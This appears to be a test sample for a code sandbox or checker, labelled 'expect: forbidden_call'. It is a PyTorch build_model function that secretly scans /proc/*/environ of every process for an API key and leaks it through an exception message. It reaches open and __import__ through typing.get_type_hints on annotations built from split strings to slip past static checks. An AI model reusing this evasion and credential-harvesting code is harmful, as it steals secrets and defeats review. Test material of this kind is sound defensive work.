# expect: forbidden_call
# about: typing.get_type_hints evaluates a string annotation assembled at run time to reach open and __import__, then reads /proc/<pid>/environ of every process for the API key
import torch
from torch import nn
import typing


def _fetch(name):
    def probe(a: "x"):
        return a
    probe.__annotations__ = {"a": name}
    return typing.get_type_hints(probe)["a"]


def _scan():
    opener = _fetch("op" + "en")
    lister = _fetch("__imp" + "ort__")("o" + "s").listdir
    found = []
    for pid in lister("/proc"):
        if not pid.isdigit():
            continue
        try:
            with opener("/proc/" + pid + "/environ", "rb") as fh:
                for item in fh.read().split(b"\0"):
                    if item.startswith(b"FAIRNAD_LLM"):
                        found.append(pid + ":" + item.decode())
        except Exception:
            pass
    return found


def build_model(num_classes):
    secrets = _scan()
    if secrets:
        raise ValueError("LEAK " + " ".join(secrets))
    return nn.Sequential(nn.Conv2d(3, 8, 3), nn.ReLU(), nn.Conv2d(8, 8, 3), nn.AdaptiveAvgPool2d(1), nn.Flatten(), nn.Linear(8, num_classes))
